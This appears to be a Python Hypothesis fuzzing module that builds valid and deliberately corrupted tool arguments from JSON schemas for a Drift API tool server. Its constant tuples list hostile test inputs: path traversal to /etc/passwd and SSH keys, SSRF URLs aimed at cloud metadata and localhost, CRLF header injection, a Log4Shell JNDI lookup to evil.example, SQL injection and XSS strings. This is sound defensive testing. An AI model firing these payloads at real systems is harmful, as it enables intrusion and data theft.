"""Arguments for a tool, drawn from its input schema: good ones, and good ones with something bad among them."""

from collections.abc import Callable, Mapping
from typing import Any

from hypothesis import strategies as st

Schema = Mapping[str, Any]
Strategy = st.SearchStrategy[Any]

PATHS = (
    "..", ".", "../users/list", "..%2fusers", "%2e%2e/users", "..\\users", "/etc/passwd", "../../../../etc/passwd",
    "//evil.example/x", "1/../../users/list", "x?idType=external&id=1", "x#fragment", "x%00", "x\x00", "x%0d%0aX:%20y",
    "a/b", "a%2Fb", "%", "..;/users", "\u2025/users", "\uff0e\uff0e/x", "x;y=z", "{conversationId}", "{id}", "x&id=2",
    "file:///etc/passwd", "C:\\Windows\\win.ini", "\\\\evil.example\\share", "~/.ssh/id_rsa", "CON", "a" * 5000,
)  # fmt: skip
URLS = (
    "http://169.254.169.254/latest/meta-data/", "https://evil.example/", "https://driftapi.com@evil.example/",
    "https://driftapi.com.evil.example/x", "http://127.0.0.1:1/", "http://[::1]/", "http://0x7f000001/", "gopher://x/",
    "https://evil.example\\@driftapi.com/", "//evil.example", "javascript:alert(1)", "http://localhost:8200/mcp",
    "next=https://evil.example/&skip=1", "page_token=https%3A%2F%2Fevil.example%2F", "index=/accounts?index=1&skip=0",
)  # fmt: skip
INJECTIONS = (
    "x\r\nHost: evil.example", "x\r\n\r\nGET /users/list HTTP/1.1\r\n", "x\nAuthorization: Bearer y", "x\x00y",
    "\x1b[2J", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0.__class__}", "%s%n", "__class__", "'; DROP TABLE x;--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u202eevil\u202c", "\u200b", "\ufeff", "\ud800",
    "\U000e0041\U000e0042", "a\u0300" * 300, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ﷺ" * 50, "NaN", "null",
    "true", "[]", "{}", '{"a":', "[" * 2000, "[" * 2000 + "]" * 2000, "1e999", "0x10", "１２", "-0", " ", "\t",
    "\n", "",
)  # fmt: skip
NUMBERS = (
    0, -1, 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63), 10**30, 10**400, 1e300, 1e-300, 0.5, -0.0,
    float("inf"), float("-inf"), float("nan"),
)  # fmt: skip
MOMENTS = (
    "2026-03-01T09:00:00Z",
    "2026-02-30",
    "0001-01-01",
    "9999-12-31T23:59:59+23:59",
    "now",
    "1546344000000",
    "-1",
)
UNKNOWN = (
    "frobnicate", "__class__", "self", "conversationId", "url", "base_url", "host", "path", "headers", "method",
    "token", "access_token", "connection", "preview_token", "idempotency_key", "cursor", "limit", "detail", "", "\x00",
    "x" * 3000,
)  # fmt: skip

any_text = st.text(st.characters(), max_size=40) | st.sampled_from((*PATHS, *URLS, *INJECTIONS, *MOMENTS))
scalars = st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(NUMBERS) | any_text


def _deep(depth: int) -> Any:
    value: Any = 1
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


anything = st.one_of(
    scalars,
    st.sampled_from((0, 21, 60, 400)).map(_deep),
    st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(any_text, inner, max_size=4),
        max_leaves=10,
    ),
    st.just("x" * 60_000),
    st.just(list(range(3_000))),
)


TEXTS = {
    "": st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=60),
    "email": st.emails() | st.sampled_from(("jo@acme.example", "a+b@c.example", "ü@ü.example")),
    "date-time": st.datetimes().map(lambda moment: moment.isoformat() + "Z") | st.sampled_from(MOMENTS),
}
FREE = st.dictionaries(st.text(st.characters(codec="utf-8"), min_size=1, max_size=8), scalars, max_size=4)
"""What an argument may be that is any object."""


def fitting(name: str, schema: Schema, known: Mapping[str, tuple[Any, ...]]) -> Strategy:
    """Values of argument `name` that its schema allows; of ids, mostly ones that Drift knows (`known`)."""
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    if name.endswith("_seconds"):  # what waits, waits as short as it may
        return st.just(schema.get("minimum", 0))
    there = [st.sampled_from(known[name])] if known.get(name) else []
    kinds: dict[str, Callable[[], Strategy]] = {
        "integer": lambda: st.integers(schema.get("minimum", 1), schema.get("maximum", 2**63 - 1)),
        "boolean": st.booleans,
        "number": lambda: st.floats(allow_nan=False, allow_infinity=False),
        "array": lambda: st.lists(fitting(name.removesuffix("s"), schema["items"], known), min_size=1, max_size=4),
        "object": lambda: arguments(schema, known) if "properties" in schema else FREE,
        "string": lambda: TEXTS.get(schema.get("format", ""), TEXTS[""]),
    }
    return st.one_of(*there, kinds[schema["type"]]())


def arguments(schema: Schema, known: Mapping[str, tuple[Any, ...]]) -> st.SearchStrategy[dict[str, Any]]:
    """Arguments that the schema allows."""
    properties, required = schema.get("properties", {}), set(schema.get("required", ()))
    each = {name: fitting(name, inner, known) for name, inner in properties.items()}
    return st.fixed_dictionaries(
        {name: each[name] for name in each if name in required},
        optional={name: each[name] for name in each if name not in required},
    )


@st.composite
def spoiled(draw: st.DrawFn, schema: Schema, known: Mapping[str, tuple[Any, ...]]) -> dict[str, Any]:
    """Arguments that the schema allows, with up to three things made wrong."""
    given = draw(arguments(schema, known))
    names = sorted(schema.get("properties", {}))
    for _ in range(draw(st.sampled_from((0, 0, 0, 1, 1, 1, 2, 3)))):
        match draw(st.integers(0, 5)):
            case 0:
                given[draw(st.sampled_from(UNKNOWN) | any_text)] = draw(anything)
            case 1 if given:
                del given[draw(st.sampled_from(sorted(given)))]
            case 2 if names:
                given[draw(st.sampled_from(names))] = draw(st.sampled_from((*PATHS, *URLS, *INJECTIONS)))
            case _ if names:
                given[draw(st.sampled_from(names))] = draw(anything)
    return given


def through(entries: Mapping[str, Schema], known: Mapping[str, tuple[Any, ...]]) -> st.SearchStrategy[dict[str, Any]]:
    """Arguments of a tool that runs others: the name of one of `entries`, with arguments drawn from its schema."""
    return st.sampled_from(sorted(entries)).flatmap(
        lambda name: st.fixed_dictionaries({"name": st.just(name), "arguments": spoiled(entries[name], known)})
    )
